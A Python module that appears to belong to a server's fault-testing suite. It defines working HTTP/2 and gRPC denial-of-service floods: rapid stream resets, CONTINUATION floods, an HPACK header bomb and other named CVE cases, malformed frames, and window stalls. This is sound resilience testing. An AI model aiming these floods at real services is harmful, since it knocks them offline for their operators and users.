"""Attacks by frames of HTTP/2, well-formed, oversized and broken."""

import random
import time

from gluond.v1 import operator_pb2, session_pb2
from tests.fault import http2
from tests.fault.attack_flow import connect, part
from tests.fault.attack_work import filled
from tests.fault.http2 import CONTINUATION, END_HEADERS, END_STREAM, HEADERS, INITIAL_WINDOW_SIZE, PING, RST_STREAM
from tests.fault.http2 import SETTINGS, frame, grpc_headers, integer, literal
from tests.fault.peer import Told, crowd

INVOKE = "OperatorService/Invoke"
CANCEL = (8).to_bytes(4, "big")


def floods(target, body, reads=True):
    """`body(connection)` again and again on each connection, which is made anew where the server closes it."""

    def flood(_, told, i):
        with http2.Connection(target.address) as connection:
            try:
                while time.monotonic() < target.end:
                    body(connection)
                    told.note("sent")
                    for _ in connection.read() if reads else ():
                        pass
            except OSError:
                pass
            told.note(connection.farewell(0.2))

    return crowd(target, flood)


def rapid_resets(target):
    headers = grpc_headers(INVOKE)

    def reset(connection):
        streams = [connection.stream() for _ in range(100)]
        connection.send(
            b"".join(frame(HEADERS, END_HEADERS, stream, headers) + frame(RST_STREAM, 0, stream, CANCEL) for stream in streams)
        )

    return floods(target, reset)


def unread_resets(target):
    """The same of whole calls, whose work has begun when they are reset."""
    request = http2.message(operator_pb2.InvokeRequest(op="relu", inputs=[filled(250_000)]))

    def reset(connection):
        streams = [connection.stream() for _ in range(20)]
        connection.send(
            b"".join(
                frame(HEADERS, END_HEADERS, stream, grpc_headers(INVOKE))
                + frame(http2.DATA, END_STREAM, stream, request)
                + frame(RST_STREAM, 0, stream, CANCEL)
                for stream in streams
            )
        )

    return floods(target, reset)


def open_calls(target):
    """Calls that send only their headers, far more than a connection may have: the server's answers are ignored."""
    methods = (
        "OperatorService/Invoke",
        "SessionService/Run",
        "OperatorService/HostOperators",
        "TrainingService/Train",
        "/grpc.health.v1.Health/Check",
        "/grpc.health.v1.Health/Watch",
        "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo",
        "/no.Such/Method",
    )
    headers = [grpc_headers(method) for method in methods]

    def ask(connection):
        connection.send(b"".join(frame(HEADERS, END_HEADERS, connection.stream(), headers[i % len(headers)]) for i in range(500)))

    return floods(target, ask)


def unknown_methods(target):
    """Calls of a method that there is not, every other one of which is reset."""
    headers = grpc_headers("/no.Such/Method")

    def ask(connection):
        streams = [connection.stream() for _ in range(300)]
        connection.send(
            b"".join(
                frame(HEADERS, END_HEADERS | END_STREAM, stream, headers)
                + (frame(RST_STREAM, 0, stream, CANCEL) if stream % 4 == 1 else b"")
                for stream in streams
            )
        )

    return floods(target, ask)


def expired_calls(target):
    """Calls whose deadline has passed before they are read."""
    headers = grpc_headers(INVOKE, ("grpc-timeout", "1n"))

    def ask(connection):
        connection.send(b"".join(frame(HEADERS, END_HEADERS | END_STREAM, connection.stream(), headers) for _ in range(300)))

    return floods(target, ask)


def opened_sessions(target):
    """Streams that open a session each, faster than the answers to them are read."""
    headers = grpc_headers("SessionService/Run")
    message = http2.message(session_pb2.SessionRequest(open=session_pb2.OpenSession(protocol=2)))

    def ask(connection):
        streams = [connection.stream() for _ in range(50)]
        connection.send(
            b"".join(frame(HEADERS, END_HEADERS, stream, headers) + frame(http2.DATA, 0, stream, message) for stream in streams)
        )

    return floods(target, ask)


def te_headers(target):
    """CVE-2023-1428: `te: x`, and headers over 8 KB in one frame."""

    def ask(connection):
        block = grpc_headers(INVOKE) + literal("te", "x") + literal("x-large", "a" * 9000)
        connection.send(frame(HEADERS, END_HEADERS | END_STREAM, connection.stream(), block))

    return floods(target, ask)


def large_headers(target, frames=64):
    """A megabyte of headers for each call."""

    def ask(connection):
        stream = connection.stream()
        piece = literal("x-large", "a" * 16_000)
        connection.send(
            frame(HEADERS, 0, stream, grpc_headers(INVOKE))
            + frame(CONTINUATION, 0, stream, piece) * frames
            + frame(CONTINUATION, END_HEADERS, stream)
        )

    return floods(target, ask)


def endless_headers(target):
    """CONTINUATION frames without an end."""

    def ask(connection):
        stream, piece = connection.stream(), literal("x", "y" * 4000) * 4
        connection.send(frame(HEADERS, 0, stream, grpc_headers(INVOKE)))
        while time.monotonic() < target.end:
            connection.send(frame(CONTINUATION, 0, stream, piece))

    return floods(target, ask)


def header_bombs(target):
    """CVE-2023-33953 and the like: one header in the dynamic table, meant 10,000 times by one byte each."""

    def ask(connection):
        resize = integer(4096, 5, 0x20) + integer(0, 5, 0x20) + integer(4096, 5, 0x20)
        block = resize + grpc_headers(INVOKE) + literal("x-bomb", "b" * 3900, 0x40) + b"\xbe" * 10_000
        connection.send(frame(HEADERS, END_HEADERS | END_STREAM, connection.stream(), block))

    return floods(target, ask)


def malformed(target):
    """Frames of random kinds, flags, streams and lengths; and calls with some bytes changed."""
    rng = random.Random(1)

    def ask(connection):
        good = frame(HEADERS, END_HEADERS, connection.stream(), grpc_headers(INVOKE)) + frame(PING, payload=bytes(8))
        bad = bytearray(good)
        for _ in range(3):
            bad[rng.randrange(len(bad))] = rng.randrange(256)
        noise = frame(rng.randrange(12), rng.randrange(256), rng.randrange(1 << 31), rng.randbytes(rng.randrange(64)))
        connection.send(bytes(bad) if rng.random() < 0.5 else good + noise)

    return floods(target, ask)


def settings(target):
    return floods(target, lambda connection: connection.send(frame(SETTINGS) * 500))


def pings(target, reads=True):
    return floods(target, lambda connection: connection.send(frame(PING, payload=bytes(8)) * 500), reads)


def unread_pings(target):
    return pings(target, reads=False)


def zero_windows(target, streams=50):
    """Calls whose answers may not be sent: the window stays closed, and a byte at a time opens it."""
    told = Told()
    connections = connect(target, target.connections, told, (INITIAL_WINDOW_SIZE, 0))
    request = operator_pb2.InvokeRequest(op="relu", inputs=[filled(100_000)])
    calls = []
    for connection in connections:
        try:
            calls += [(connection, connection.ask(INVOKE, request)) for _ in range(streams)]
        except OSError as error:
            told.note(error)
    while time.monotonic() < target.end:
        for connection, stream in calls:
            try:
                connection.send(frame(http2.WINDOW_UPDATE, 0, stream, (1).to_bytes(4, "big")))
            except OSError:
                pass
        time.sleep(0.1)
    return part(target, connections, told)
